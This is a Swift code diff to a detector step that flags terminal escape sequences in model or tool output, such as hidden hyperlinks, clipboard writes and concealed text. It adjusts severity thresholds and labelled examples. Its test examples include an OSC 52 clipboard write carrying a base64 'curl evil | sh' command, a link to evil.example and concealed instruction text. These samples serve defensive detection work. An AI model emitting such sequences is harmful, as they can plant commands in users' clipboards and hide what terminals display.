@@ -2,7 +2,9 @@
 /// will reach a terminal: OSC 8 hyperlinks (the shown text hides the real
 /// target), OSC 52 clipboard writes, window-title sets, cursor moves and
 /// concealed text that hide or overwrite what the user sees (high), and
-/// plain colour and line-erase codes (low: real tool output is full of them).
+/// plain colour, bell, backspace and line-erase codes (low: real tool output
+/// is full of them, so they are reported, as the original does, but only
+/// logged; the step's threshold is 0.2 so that they pass it).
 ///
 /// Why a byte parser and not patterns: escape sequences have a small,
 /// exact grammar (ECMA-48: ESC [ params final, ESC ] … BEL/ST), and the
@@ -14,15 +16,15 @@ public struct ShellBleedStep: Step {
     summary: "Finds OSC 8 links, OSC 52 clipboard writes, cursor moves, concealed text and fake shell prompts in output.",
     rationale: "Escape sequences in model or tool output can rewrite what a terminal shows or put commands in the clipboard.",
     phase: .afterCall, category: .output, position: 730, defaultAction: .block,
-    reads: [.output, .toolResult, .text],
+    reads: [.output, .toolResult, .text], defaultThreshold: 0.2,
     examples: [
       StepExample("Done «osc52_clipboard:\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}»", role: .output),
       StepExample("«osc8_hyperlink:\u{1B}]8;;https://evil.example/\u{07}»docs«osc8_hyperlink:\u{1B}]8;;\u{07}»"),
       StepExample("safe text«cursor_movement:\u{1B}[1A»«erase:\u{1B}[2J»"),
       StepExample("«sgr_conceal:\u{1B}[8m»hidden instructions"),
       StepExample("«osc_title:\u{1B}]0;owned\u{07}»", role: .output),
-      StepExample("PASS \u{1B}[32mok\u{1B}[0m 12 tests", role: .output),
-      StepExample("  ◦ compiles: \u{1B}[2K\u{1B}[0G  ✓ compiles", role: .output),
+      StepExample("PASS «sgr:\u{1B}[32m»ok«sgr:\u{1B}[0m» 12 tests", role: .output),
+      StepExample("  ◦ compiles: «erase:\u{1B}[2K»«cursor_movement:\u{1B}[0G»  ✓ compiles", role: .output),
       StepExample("plain output without escapes"),
     ])
 
